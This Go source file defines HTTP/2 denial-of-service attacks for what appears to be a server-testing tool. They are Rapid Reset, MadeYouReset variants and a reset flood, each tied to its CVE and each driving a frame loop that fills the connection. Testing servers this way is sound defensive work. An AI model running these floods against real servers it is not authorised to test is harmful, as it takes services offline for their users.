// SPDX-License-Identifier: Apache-2.0

package main

import "golang.org/x/net/http2"

var resets = family{"streams that end as soon as they have begun", []attack{
	{
		name: "rapid-reset", cve: "CVE-2023-44487", about: "opens calls and resets each at once",
		more: func(h *hostile) bool {
			for !h.full() {
				h.reset(h.call())
			}
			return true
		},
	},
	{
		name: "server-reset-overflow", cve: "CVE-2025-8671", about: "opens calls and makes the server reset them: a stream's window above 2^31-1",
		more: serverReset(func(h *hostile, id uint32) { h.windowUpdate(id, 1<<31-1) }),
	},
	{
		name: "server-reset-zero", cve: "CVE-2025-8671", about: "the same by a WINDOW_UPDATE of nothing",
		more: serverReset(func(h *hostile, id uint32) { h.windowUpdate(id, 0) }),
	},
	{
		name: "server-reset-half-closed", cve: "CVE-2025-8671", about: "the same by DATA behind the request's end",
		more: serverReset(func(h *hostile, id uint32) { h.data(id, false, []byte{0}) }),
	},
	{
		name: "server-reset-priority", cve: "CVE-2025-8671", about: "the same by a PRIORITY that makes a stream depend on itself",
		more: serverReset(func(h *hostile, id uint32) { h.priority(id, id, 1) }),
	},
	{
		name: "server-reset-length", variant: true, cve: "CVE-2025-8671", about: "the same by a PRIORITY of the wrong length",
		more: serverReset(func(h *hostile, id uint32) { must(h.framer.WriteRawFrame(http2.FramePriority, 0, id, []byte{0, 0, 0})) }),
	},
	{
		name: "reset-flood", cve: "CVE-2019-9514", about: "sends malformed requests, each to be answered by a reset",
		more: func(h *hostile) bool {
			for !h.full() {
				h.head(h.stream(), h.fields(":method", "POST", ":scheme", "http", ":path", chargePath, "Upper", "case"), false)
			}
			return true
		},
	},
	{
		name: "reset-closed", variant: true, about: "resets closed streams, again and again",
		open: func(h *hostile) { h.call() },
		more: func(h *hostile) bool {
			for !h.full() {
				h.reset(1)
			}
			return true
		},
	},
}}

// serverReset opens calls that have their whole request, and breaks the protocol on each.
func serverReset(breach func(h *hostile, id uint32)) func(h *hostile) bool {
	return func(h *hostile) bool {
		for !h.full() {
			breach(h, h.call())
		}
		return true
	}
}
